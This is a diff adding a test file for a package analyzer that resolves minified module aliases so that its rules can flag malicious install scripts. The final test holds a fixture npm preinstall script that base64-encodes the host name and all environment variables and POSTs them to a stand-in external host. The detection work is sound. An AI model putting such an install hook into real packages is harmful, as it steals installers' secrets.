@@ -1,0 +1,49 @@
+// Node's modules under names of the file's choosing, read as the modules' names: the bindings found, the view's text
+// and its offsets mapped back, and the rules finding minified calls through it.
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { REPO_ROOT } from '../../../../test/corpora.js';
+import { releaseOf } from '../release.fixture.js';
+import type { AnalyzerContext } from '../types.js';
+import { aliasedView, moduleAliases } from './aliases.js';
+import { analyzeSource } from './index.js';
+
+const ctx: AnalyzerContext = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };
+
+describe('module aliases', () => {
+  it('finds minified, compiled and imported bindings, not a module under its own name nor one that runs code', () => {
+    const code = "const h=require('https'),o=require('os');\nvar import_fs = __toESM(require(\"fs\"));\nconst _net = _interopRequireDefault(require('node:net'));\nimport * as dns2 from 'dns';\nconst os = require('os');\nconst child_process_1 = require('child_process');\n";
+    expect(Object.fromEntries(moduleAliases(code))).toEqual({ h: 'https', o: 'os', import_fs: 'fs', _net: 'net', dns2: 'dns' });
+  });
+
+  it('leaves a name bound to two different modules as written', () => {
+    expect(moduleAliases("var a = require('os');\nfunction f() { var a = require('fs'); }\n").size).toBe(0);
+  });
+
+  it('writes uses as the module, keeps line breaks, and maps offsets back', () => {
+    const code = "const h=require('https'),o=require('os');\nconst b = o.hostname();\nh.request({ host: x.h.y, path: '/' + b }).end();\nimport_x.default.y();\n";
+    const view = aliasedView(code);
+    expect(view?.text).toBe("const h=require('https'),o=require('os');\nconst b = os.hostname();\nhttps.request({ host: x.h.y, path: '/' + b }).end();\nimport_x.default.y();\n");
+    expect(view?.text.split('\n').length).toBe(code.split('\n').length);
+    const at = view!.text.indexOf('https.request');
+    expect(view!.original(at)).toBe(code.indexOf('h.request'));
+    expect(view!.original(view!.text.indexOf('.end()'))).toBe(code.indexOf('.end()'));
+    const compiled = aliasedView('var import_os = __toESM(require("os"));\nimport_os.default.userInfo();\n');
+    expect(compiled?.text).toContain('\nos.userInfo();');
+  });
+
+  it('gives nothing for a file without aliases, and stays bounded on large input', () => {
+    expect(aliasedView("const os = require('os');\nos.hostname();\n")).toBeNull();
+    expect(aliasedView('')).toBeNull();
+    const many = `const h=require('https');\n${'h.get(u);'.repeat(100_000)}`;
+    expect(aliasedView(many)?.text.length).toBe(many.length + 4 * 100_000);
+  });
+
+  it('lets the rules read a minified install script that posts the environment through short names', () => {
+    const env = "const h=require('https'),o=require('os');\nconst b=Buffer.from(JSON.stringify({h:o.hostname(),e:process.env})).toString('base64');\nconst r=h.request({hostname:'env-sync.example.net',method:'POST'},()=>{});r.write(b);r.end();\n";
+    const out = analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'x', scripts: { preinstall: 'node env.js' } }), 'env.js': env }, { scripts: { preinstall: 'node env.js' } }), ctx);
+    const codes = out.findings.map((f) => f.code);
+    expect(codes).toEqual(expect.arrayContaining(['collects_host_info', 'network_request', 'attack_chain']));
+    expect(out.findings.find((f) => f.code === 'network_request')?.line).toBe(3);
+  });
+});
